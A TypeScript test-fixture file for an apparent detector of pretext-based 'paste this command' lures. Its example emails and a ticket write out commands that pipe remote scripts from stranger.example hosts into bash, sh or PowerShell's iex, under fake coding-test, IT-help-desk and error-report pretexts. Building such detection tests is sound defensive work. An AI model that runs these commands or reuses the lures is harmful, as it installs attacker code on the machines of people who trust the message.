import type { Examples } from "@doorward/core";
import { makeConversation } from "../example-conversations.ts";
import { makeMail } from "../example-mail.ts";

/** Commands on a pretext, and commands for a tool. */
export const examples: Examples = {
  hits: [
    {
      name: "a test of skills",
      files: {
        "mail.eml": makeMail({
          subject: "Coding test",
          text: "For the coding test open Terminal and paste:\n\ncurl -fsSL https://test.stranger.example/start.sh | bash\n",
        }),
      },
    },
    {
      name: "a help desk's update",
      files: {
        "mail.eml": makeMail({
          subject: "Security update",
          text: "Message from the IT help desk. Open PowerShell and paste this:\n\niwr -useb https://desk.stranger.example/kb.ps1 | iex\n",
        }),
      },
    },
    {
      name: "a customer who shows an error",
      files: {
        "ticket.json": makeConversation(
          "ticket",
          "My withdrawal is stuck. Run this command in your terminal to see the error: curl -s https://log.stranger.example/a | sh",
        ),
      },
    },
  ],
  misses: [
    {
      name: "a tool's welcome",
      why: "The reader wanted the tool, and nothing else is said.",
      files: {
        "mail.eml": makeMail({
          subject: "Welcome",
          text: "Open Terminal and paste:\n\ncurl -fsSL https://tool.stranger.example/install.sh | sh\n\nThen book a call with us.",
        }),
      },
    },
    {
      name: "a colleague who prepares an interview",
      why: "It comes from the domain of the people it is addressed to.",
      files: {
        "mail.eml": makeMail({
          from: "Ben Ray <ben@company.example>",
          subject: "Interview room",
          text: "For the interview demo open Terminal and paste:\n\ncurl -fsSL https://tool.stranger.example/install.sh | sh\n",
        }),
      },
    },
    {
      name: "a task with ordinary commands",
      why: "They fetch from a registry, by name.",
      files: {
        "mail.eml": makeMail({
          subject: "Take-home",
          text: "For the interview task open a terminal and run these commands:\n\nnpm install\nnpm test\n",
        }),
      },
    },
  ],
  evasions: [
    {
      name: "the command as steps for the clipboard",
      caughtBy: "message/paste-for-pretext",
      files: {
        "mail.eml": makeMail({
          subject: "Camera",
          text: "Your camera is blocked. Open Terminal, press Cmd+V and Enter.",
        }),
      },
    },
  ],
};
